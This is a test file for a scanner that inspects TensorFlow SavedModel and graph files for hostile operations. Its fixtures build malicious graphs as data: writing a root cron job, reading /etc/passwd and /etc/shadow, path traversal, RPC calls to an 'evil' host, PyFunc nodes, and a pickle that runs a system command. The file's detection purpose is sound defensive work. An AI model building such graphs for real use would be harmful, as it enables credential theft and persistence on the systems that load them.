import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { concat, utf8 } from '#formats/test-files/bytes';
import { block, int } from '#formats/test-files/onnx';
import { op as pickleOp, reduce, stream } from '#formats/test-files/pickle';
import {
  attribute,
  benignSavedModel,
  callAttribute,
  floatConst,
  graphDef,
  kerasMetadata,
  kerasObject,
  metaGraph,
  nodeDef,
  savedModel,
  stringConst,
  textAttribute,
  tracedSave,
} from '#formats/test-files/tensorflow';
import { isAlarm, repository, scanBytes } from '../test-scan.ts';

const urls = (key: string, url: string) => attribute(key, block(1, block(2, url)));
const found = (bytes: Uint8Array, rule: string) => scanBytes(bytes).observations.find(({ ruleId }) => ruleId === rule);

test('a SavedModel with its saver, restore, signature and vocabulary is clean and described', () => {
  const bytes = benignSavedModel();
  const scan = scanBytes(bytes);
  expect(scan).toMatchObject({ verdict: 'clean', outcome: 'scanned', rules: [], format: { label: 'TensorFlow SavedModel' } });
  expect(scan.coverage).toEqual([{ from: 0, to: bytes.length, state: 'parsed', what: 'graph' }]);
  expect(scan.card).toMatchObject({
    framework: 'TensorFlow',
    producer: 'TensorFlow 2.15.0',
    inputs: [{ name: 'x', type: 'string', shape: '[?, 4]' }],
  });
  expect(scan.assurances.map(({ what }) => what)).toEqual(
    expect.arrayContaining(
      ['SaveV2', 'RestoreV2', 'MergeV2Checkpoints', 'InitializeTableFromTextFileV2'].map((op) => `Nodes of the op ${op}`),
    ),
  );
});

const hostile: readonly (readonly [name: string, rule: string, ...nodes: Uint8Array[]])[] = [
  [
    'WriteFile',
    'MDL-TF-001',
    stringConst('p', '/etc/cron.d/x'),
    stringConst('c', '* * * * * root id'),
    nodeDef('WriteFile', 'w', ['p', 'c']),
  ],
  ['ReadFile', 'MDL-TF-002', stringConst('p', '/etc/passwd'), nodeDef('ReadFile', 'r', ['p:0'])],
  ['ReadFile of an input', 'MDL-TF-002', nodeDef('Placeholder', 'p'), nodeDef('ReadFile', 'r', ['p'])],
  ['MatchingFiles', 'MDL-TF-002', stringConst('p', '/home/*'), nodeDef('MatchingFiles', 'm', ['p'])],
  ['TextLineDataset', 'MDL-TF-002', stringConst('p', '/etc/shadow'), nodeDef('TextLineDataset', 'd', ['p'])],
  ['TFRecordDataset of an address', 'MDL-TF-003', stringConst('p', 'gs://bucket/x'), nodeDef('TFRecordDataset', 'd', ['p'])],
  ['WholeFileReaderV2', 'MDL-TF-002', nodeDef('WholeFileReaderV2', 'd')],
  [
    'a table filled from a file that is no asset',
    'MDL-TF-002',
    stringConst('p', '/etc/passwd'),
    nodeDef('InitializeTableFromTextFileV2', 'i', ['t', 'p']),
  ],
  ['RestoreV2 of its own path', 'MDL-TF-002', stringConst('p', '/home/u/secret.ckpt'), nodeDef('RestoreV2', 'r', ['p'])],
  [
    'SaveV2 behind a default',
    'MDL-TF-001',
    stringConst('d', '/etc/x'),
    nodeDef('PlaceholderWithDefault', 'p', ['d']),
    nodeDef('SaveV2', 's', ['p']),
  ],
  [
    'SaveV2 that climbs out of the prefix',
    'MDL-TF-001',
    stringConst('d', '/../../../etc/x'),
    nodeDef('StringJoin', 'j', ['saver_filename', 'd']),
    nodeDef('SaveV2', 's', ['j']),
  ],
  ['MergeV2Checkpoints', 'MDL-TF-001', stringConst('d', '/var/x'), nodeDef('MergeV2Checkpoints', 'm', ['saver_filename', 'd'])],
  ['PrintV2 into a file', 'MDL-TF-001', nodeDef('PrintV2', 'p', ['x'], textAttribute('output_stream', 'file:///tmp/x'))],
  ['CacheDataset with a file', 'MDL-TF-001', stringConst('p', '/tmp/cache'), nodeDef('CacheDataset', 'c', ['d', 'p'])],
  ['CreateSummaryFileWriter', 'MDL-TF-001', stringConst('p', '/tmp/log'), nodeDef('CreateSummaryFileWriter', 'c', ['w', 'p'])],
  ['ImmutableConst', 'MDL-TF-002', nodeDef('ImmutableConst', 'c', [], textAttribute('memory_region_name', '/etc/passwd'))],
  ['DecodeProtoV2 with a file', 'MDL-TF-002', nodeDef('DecodeProtoV2', 'c', ['x'], textAttribute('descriptor_source', '/etc/x'))],
  ['DebugIdentity to an address', 'MDL-TF-003', nodeDef('DebugIdentity', 'c', ['x'], urls('debug_urls', 'grpc://evil:1'))],
  ['RpcCall', 'MDL-TF-003', stringConst('a', 'evil:1'), nodeDef('RpcCall', 'c', ['a'])],
  ['DataServiceDatasetV4', 'MDL-TF-003', nodeDef('DataServiceDatasetV4', 'c')],
  ['PyFunc', 'MDL-TF-004', nodeDef('PyFunc', 'c', ['x'], textAttribute('token', 'pyfunc_0'))],
  ['EagerPyFunc', 'MDL-TF-004', nodeDef('EagerPyFunc', 'c', ['x'], textAttribute('token', 'pyfunc_0'))],
  ['Abort', 'MDL-TF-004', nodeDef('Abort', 'c')],
  ['an op that is named for acting', 'MDL-TF-006', nodeDef('ShellExec', 'c')],
];

const cases = hostile.map(([name, rule, ...nodes]) => ({ name, rule, nodes }));

describe('what the graph does outside itself is high, wherever it stands', () => {
  test.each(cases)('$name', ({ rule, nodes }) => {
    const scan = scanBytes(benignSavedModel(nodes));
    expect(scan.rules).toEqual([rule]);
    expect(scan.verdict).toBe('high');
  });

  test.each(cases)('$name, in a function that a function of the served one calls', ({ rule, nodes }) => {
    const scan = scanBytes(
      benignSavedModel(
        [nodeDef('PartitionedCall', 'outer', ['serving_default_x', 'saver_filename'], callAttribute('f', 'a'))],
        [
          {
            name: 'a',
            parameters: ['x', 'file'],
            nodes: [nodeDef('If', 'if', ['x', 'x', 'file'], callAttribute('then_branch', 'b'), callAttribute('else_branch', 'c'))],
          },
          { name: 'b', parameters: ['x', 'saver_filename'], nodes },
          { name: 'c', parameters: ['x', 'y'], nodes: [nodeDef('Identity', 'i', ['x'])] },
        ],
      ),
    );
    expect(scan.rules).toEqual([rule]);
    expect(scan.observations.find(({ ruleId }) => ruleId === rule)?.location.pointer).toMatch(/^\/graph\/a\/b\//);
  });

  test('also in a bare graph, a MetaGraph, and in text', () => {
    const nodes = [stringConst('p', '/etc/passwd'), nodeDef('ReadFile', 'r', ['p'])];
    expect(scanBytes(graphDef(nodes))).toMatchObject({ rules: ['MDL-TF-002'], format: { label: 'TensorFlow graph' } });
    expect(scanBytes(metaGraph(graphDef(nodes)))).toMatchObject({ rules: ['MDL-TF-002'], format: { label: 'TensorFlow MetaGraph' } });
    const text = `node {\n  name: "p"\n  op: "Const"\n  attr { key: "value" value { tensor { dtype: DT_STRING string_val: "/etc/pass\\167d" } } }\n}\nnode {\n name: "r" op: "ReadFile" input: "p" }`;
    const scan = scanBytes(utf8(text));
    expect(scan).toMatchObject({ rules: ['MDL-TF-002'], format: { kind: 'saved-model' } });
    expect(scan.observations[0]?.evidence?.reconstruction).toBe('ReadFile("/etc/passwd")');
    expect(
      scanBytes(
        utf8(
          `# c\nsaved_model_schema_version: 1 meta_graphs < graph_def { library { function { signature { name: "f" } node_def { name: 'p' op: 'PyFunc' } } } } >`,
        ),
      ).rules,
    ).toEqual(['MDL-TF-004']);
  });

  test('the finding shows the call, its graph and its bytes', () => {
    const bytes = benignSavedModel([
      stringConst('a', '/etc/cron'),
      stringConst('b', '.d/x'),
      nodeDef('StringJoin', 'j', ['a', 'b']),
      stringConst('c', 'root id'),
      nodeDef('WriteFile', 'w', ['j', 'c']),
    ]);
    const finding = found(bytes, 'MDL-TF-001');
    expect(finding?.evidence?.reconstruction).toBe('WriteFile("/etc/cron" + ".d/x", "root id")');
    expect(finding?.evidence?.trace?.map(({ code }) => code)).toEqual(['StringJoin', 'Const', 'WriteFile']);
    expect(finding?.evidence?.fields).toContainEqual({ pointer: 'contents', value: '"root id"' });
    const at = finding?.location.offset ?? 0;
    expect(Buffer.from(bytes.subarray(at, at + (finding?.location.length ?? 0))).toString('latin1')).toContain('WriteFile');
  });

  test('what loading itself runs is critical', () => {
    const nodes = [
      stringConst('p', '/etc/x'),
      stringConst('c', 'y'),
      nodeDef('WriteFile', 'w', ['p', 'c']),
      nodeDef('NoOp', 'start', ['^w']),
    ];
    expect(scanBytes(benignSavedModel(nodes, [], { init: 'start' })).verdict).toBe('critical');
    expect(scanBytes(benignSavedModel(nodes, [], { collections: { saved_model_main_op: ['start'] } })).verdict).toBe('critical');
    const call = [nodeDef('StatefulPartitionedCall', 'call', [], callAttribute('f', 'go'))];
    expect(scanBytes(benignSavedModel(call, [{ name: 'go', nodes }], { init: 'call:0' })).verdict).toBe('critical');
  });
});

describe('the data flow decides about saving and restoring', () => {
  test('a constant that is handed to the saving function is told', () => {
    const nodes = [
      stringConst('p', '/root/.ssh/x'),
      nodeDef('StatefulPartitionedCall', 'again', ['p'], callAttribute('f', tracedSave.name)),
    ];
    expect(scanBytes(benignSavedModel(nodes)).rules).toEqual(['MDL-TF-001']);
  });

  test("the first saver's fed default and TF1's are ordinary", () => {
    const first = graphDef([stringConst('save/Const', 'model'), nodeDef('SaveV2', 'save/SaveV2', ['save/Const'])]);
    expect(scanBytes(metaGraph(first, { saver: 'save/Const:0' })).rules).toEqual([]);
    expect(scanBytes(first).rules).toEqual([]);
  });

  test('a fixed place beside the program is medium', () => {
    const bytes = benignSavedModel([stringConst('p', 'other'), nodeDef('SaveV2', 's', ['p'])]);
    expect(scanBytes(bytes).severities.get('MDL-TF-001')).toBe('medium');
  });
});

describe('structure', () => {
  test('an asset that leaves the folder is told', () => {
    expect(scanBytes(benignSavedModel([], [], { assets: { 'Const:0': '../../../etc/passwd' } })).rules).toContain('MDL-TF-008');
    expect(scanBytes(benignSavedModel([], [], { assets: { 'Const:0': '/etc/passwd' } })).verdict).toBe('high');
  });

  test('an op from nowhere is medium, from a published library low', () => {
    expect(scanBytes(benignSavedModel([nodeDef('MyMatMul', 'm')])).verdict).toBe('medium');
    expect(scanBytes(benignSavedModel([nodeDef('WordpieceTokenizeWithOffsets', 'm')])).verdict).toBe('low');
  });

  test('unknown fields in front hide nothing, and are named', () => {
    const evil = benignSavedModel([nodeDef('PyFunc', 'p', [], textAttribute('token', 'x'))]);
    const scan = scanBytes(concat(block(777, 'x'.repeat(300)), evil));
    expect(scan.rules).toEqual(['MDL-TF-004', 'MDL-TF-012']);
  });

  test('a pickle in a constant, an attribute or an undefined field is judged as a pickle', () => {
    const pickle = stream('', '0', reduce('posix', 'system', pickleOp.text('id')));
    for (const bytes of [
      benignSavedModel([stringConst('s', pickle)]),
      benignSavedModel([nodeDef('NoOp', 'n', [], textAttribute('k', pickle))]),
      concat(benignSavedModel(), block(99, pickle)),
    ])
      expect(scanBytes(bytes).rules).toContain('MDL-PKL-001');
  });

  test('a graph inside a constant is judged as a graph', () => {
    const inner = graphDef([stringConst('p', '/etc/passwd'), nodeDef('ReadFile', 'r', ['p'])]);
    expect(scanBytes(benignSavedModel([stringConst('s', inner)])).rules).toEqual(['MDL-TF-002']);
  });

  test('tensors that do not fit their shape are medium, weights that fit are counted', () => {
    expect(scanBytes(graphDef([floatConst('w', [4, 2], 32), nodeDef('Relu', 'r', ['w'])])).card.parameters).toBe(8);
    expect(scanBytes(graphDef([floatConst('w', [2n ** 40n, 2n ** 40n], 32), nodeDef('Relu', 'r')])).severities.get('MDL-TF-007')).toBe(
      'medium',
    );
    expect(scanBytes(graphDef([floatConst('w', [4, 4], 32), nodeDef('Relu', 'r')])).verdict).toBe('medium');
  });

  test('large weights are hashed', () => {
    const scan = scanBytes(graphDef([floatConst('w', [1024], 4096), nodeDef('Relu', 'r', ['w'])]));
    expect(scan.coverage.map(({ state }) => state)).toEqual(['parsed', 'hashed', 'parsed']);
  });

  test('calls that grow without end, and recursion, are told', () => {
    const functions = Array.from({ length: 40 }, (_, index) => ({
      name: `f${index}`,
      nodes: ['a', 'b'].map((name) => nodeDef('PartitionedCall', name, [], callAttribute('f', `f${index + 1}`))),
    }));
    expect(scanBytes(benignSavedModel([], functions)).severities.get('MDL-TF-010')).toBe('high');
    const self = { name: 'g', nodes: [nodeDef('PartitionedCall', 'a', [], callAttribute('f', 'g'))] };
    expect(scanBytes(benignSavedModel([], [self])).severities.get('MDL-TF-010')).toBe('medium');
  });

  test('a Lambda in metadata meets the judge of Keras, in the object graph and beside it', () => {
    const config = JSON.stringify({
      class_name: 'Functional',
      config: { layers: [{ class_name: 'Lambda', config: { function: ['4wEA', null, null] } }] },
    });
    expect(scanBytes(benignSavedModel([], [], { more: [kerasObject(config)] })).verdict).toBe('critical');
    expect(scanBytes(kerasMetadata(config))).toMatchObject({ verdict: 'critical', format: { label: 'Keras metadata of a SavedModel' } });
    expect(scanBytes(kerasMetadata(JSON.stringify({ class_name: 'Dense', config: {} }))).verdict).toBe('clean');
  });

  test('a cut file keeps what was found and is unreadable', () => {
    const bytes = concat(
      int(1, 1),
      block(2, metaGraph(graphDef([nodeDef('PyFunc', 'p')]))),
      block(2, metaGraph(graphDef([nodeDef('Relu', 'p')]))),
    );
    const scan = scanBytes(bytes.subarray(0, bytes.length - 20));
    expect(scan.outcome).toBe('unreadable');
    expect(scan.rules).toEqual(['MDL-TF-004', 'MDL-TF-007']);
  });

  test('a second graph in the same message hides no nodes', () => {
    const bytes = savedModel(concat(metaGraph(graphDef([nodeDef('Relu', 'a')])), block(2, graphDef([nodeDef('PyFunc', 'b')]))));
    expect(scanBytes(bytes).rules).toEqual(['MDL-TF-004']);
  });
});

const samples = join(repository, '..', 'shared', 'data', 'model-corpus', 'files');
test.skipIf(!existsSync(samples))('the corpus: a PyFunc is high, the safe model clean (../shared/data/model-corpus)', () => {
  const read = (name: string) => readFileSync(join(samples, `modelaudit__assets__samples__tensorflow__${name}__saved_model.pb`));
  expect(isAlarm(scanBytes(read('malicious_pyfunc')).verdict)).toBe(true);
  expect(scanBytes(read('safe_savedmodel')).verdict).toBe('clean');
});

test('a SavedModel of two graphs is one, and both are read', () => {
  const writes = graphDef([stringConst('p', '/etc/x'), nodeDef('WriteFile', 'w', ['p', 'p'])]);
  const two = concat(int(1, 1), block(2, metaGraph(graphDef([nodeDef('Placeholder', 'x')]))), block(2, metaGraph(writes)));
  expect(scanBytes(two)).toMatchObject({ format: { kind: 'saved-model' }, verdict: 'high' });
});
